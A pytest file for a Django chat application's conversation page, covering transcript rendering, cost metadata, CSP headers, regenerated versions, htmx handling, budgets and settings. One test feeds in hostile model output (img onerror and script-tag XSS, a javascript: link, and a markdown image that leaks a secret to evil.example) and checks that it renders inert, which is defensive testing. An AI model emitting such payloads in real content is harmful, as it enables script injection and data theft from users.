"""The conversation page: the shown branch rendered server-side, per-message numbers, versions, safety."""

from __future__ import annotations

import re
from decimal import Decimal

import pytest
from django.urls import reverse

from billing.budgets import set_budget
from chat import conversations
from chat.models import Message
from tests.chat_pages.conftest import add_turn

pytestmark = pytest.mark.django_db


def test_it_renders_the_transcript_with_meta(owner_client, trip):
    body = owner_client.get(reverse("chat:conversation", args=[trip.pk])).content.decode()
    assert "<strong>Lisbon</strong> is lovely." in body
    assert "12 in / 5 out" in body
    assert "$0.0000123" in body
    assert "TTFT 87 ms" in body
    assert "41.5 tok/s" in body
    assert "via OpenAI" in body


def test_it_sends_a_strict_content_security_policy(owner_client, trip):
    response = owner_client.get(reverse("chat:conversation", args=[trip.pk]))
    policy = response["Content-Security-Policy"]
    assert "script-src 'self'" in policy
    assert "img-src 'self' data:" in policy
    assert "unsafe-inline" not in policy


def test_it_renders_hostile_model_output_inert(owner_client, trip):
    add_turn(
        trip,
        "hi",
        "<img src=x onerror=alert(1)> <script>alert(2)</script> [click](javascript:alert(3)) "
        "![x](https://evil.example/?q=secret)",
    )
    body = owner_client.get(reverse("chat:conversation", args=[trip.pk])).content.decode()
    transcript = body[body.index('id="transcript"') :]
    assert "<script>alert" not in transcript
    assert "onerror=" not in transcript.replace("&lt;img src=x onerror=alert(1)&gt;", "")
    assert 'href="javascript:' not in transcript
    assert "evil.example" not in transcript


def test_it_shows_a_live_message_as_raw_text_with_its_checkpoint_seq(owner_client, trip):
    asked = Message.objects.create(conversation=trip, parent=trip.current_leaf, role="user", content="go")
    live = Message.objects.create(
        conversation=trip,
        parent=asked,
        role="assistant",
        status="streaming",
        content="**so far",
        seq=7,
    )
    trip.current_leaf = live
    trip.save()
    body = owner_client.get(reverse("chat:conversation", args=[trip.pk])).content.decode()
    assert f'data-id="{live.pk}" data-role="assistant" data-status="streaming" data-seq="7"' in body
    assert '<div class="live-text" data-live>**so far</div>' in body


def test_it_shows_a_version_switcher_after_regenerate(owner_client, trip):
    first = trip.current_leaf
    second = conversations.regenerate(first)
    second.status = "complete"
    second.content = "Porto, then."
    second.save()
    body = owner_client.get(reverse("chat:conversation", args=[trip.pk])).content.decode()
    assert "Porto, then." in body and "Lisbon" not in body
    assert ">2/2<" in body
    assert f'data-switch="{first.pk}"' in body


def test_it_answers_htmx_with_the_transcript_only(owner_client, trip):
    response = owner_client.get(reverse("chat:conversation", args=[trip.pk]), headers={"HX-Request": "true"})
    body = response.content.decode()
    assert 'id="transcript"' in body and "Lisbon" in body
    assert "<html" not in body


def test_it_shows_errors_tool_calls_and_skipped_models(owner_client, trip):
    add_turn(
        trip,
        "what is 2+2",
        "",
        status="error",
        error="Rate limited upstream; try again in 3 s.",
        tool_calls=[{"step": 0, "id": "c1", "name": "calculator", "arguments": '{"expression":"2+2"}', "result": "4"}],
        skipped=[["openai/gpt-4o", "503 overloaded"]],
    )
    body = owner_client.get(reverse("chat:conversation", args=[trip.pk])).content.decode()
    assert "Rate limited upstream; try again in 3 s." in body
    assert '<span class="tool-name">calculator</span>' in body
    assert "openai/gpt-4o (503 overloaded)" in body
    assert re.search(r"data-continue\s*>", body)


def test_it_shows_the_conversation_total_and_the_users_budget(owner_client, owner, trip):
    trip.total_cost = Decimal("0.0421")
    trip.save()
    set_budget(user=owner, amount=Decimal("5"), period="month")
    body = owner_client.get(reverse("chat:conversation", args=[trip.pk])).content.decode()
    assert "$0.0421" in body
    assert "<span data-remaining>$5.00</span> left" in body


def test_it_exports_the_branch_as_markdown(owner_client, trip):
    response = owner_client.get(reverse("chat:export", args=[trip.pk]))
    assert response["Content-Disposition"] == 'attachment; filename="trip-planning.md"'
    assert "**Lisbon** is lovely." in response.content.decode()


def test_it_renders_a_long_conversation_in_a_fixed_number_of_queries(owner_client, trip, django_assert_max_num_queries):
    for turn in range(30):
        add_turn(trip, f"question {turn}", f"answer {turn}")
    conversations.regenerate(trip.current_leaf)
    with django_assert_max_num_queries(16):
        body = owner_client.get(reverse("chat:conversation", args=[trip.pk])).content.decode()
    assert "question 29" in body and ">2/2<" in body


def test_it_changes_the_settings_for_the_next_reply(owner_client, trip):
    response = owner_client.post(
        reverse("chat:settings", args=[trip.pk]),
        {
            "model": "meta-llama/llama-3.1-8b-instruct",
            "system_prompt": "Answer in French.",
            "temperature": "1.5",
            "tools": ["current_time"],
            "fallback_models": ["openai/gpt-4o-mini"],
        },
    )
    assert response["Location"] == reverse("chat:conversation", args=[trip.pk])
    trip.refresh_from_db()
    assert trip.model == "meta-llama/llama-3.1-8b-instruct"
    assert (trip.system_prompt, trip.temperature) == ("Answer in French.", Decimal("1.50"))
    assert (trip.max_tokens, trip.tools) == (None, ["current_time"])
    assert trip.fallback_models == ["openai/gpt-4o-mini"]


def test_it_refuses_settings_with_a_model_the_user_may_not_use(owner_client, trip):
    response = owner_client.post(reverse("chat:settings", args=[trip.pk]), {"model": "x/unpriced"})
    trip.refresh_from_db()
    assert trip.model == "openai/gpt-4o-mini"
    page = owner_client.get(response["Location"]).content.decode()
    assert "Model: Pick a model from the list" in page


def test_it_answers_an_htmx_history_restore_with_the_whole_page(owner_client, trip):
    response = owner_client.get(
        reverse("chat:conversation", args=[trip.pk]),
        headers={"HX-Request": "true", "HX-History-Restore-Request": "true"},
    )
    assert "<html" in response.content.decode()


def test_its_answer_varies_with_htmx(owner_client, trip):
    response = owner_client.get(reverse("chat:conversation", args=[trip.pk]))
    assert {"HX-Request", "HX-History-Restore-Request"} <= {h.strip() for h in response["Vary"].split(",")}
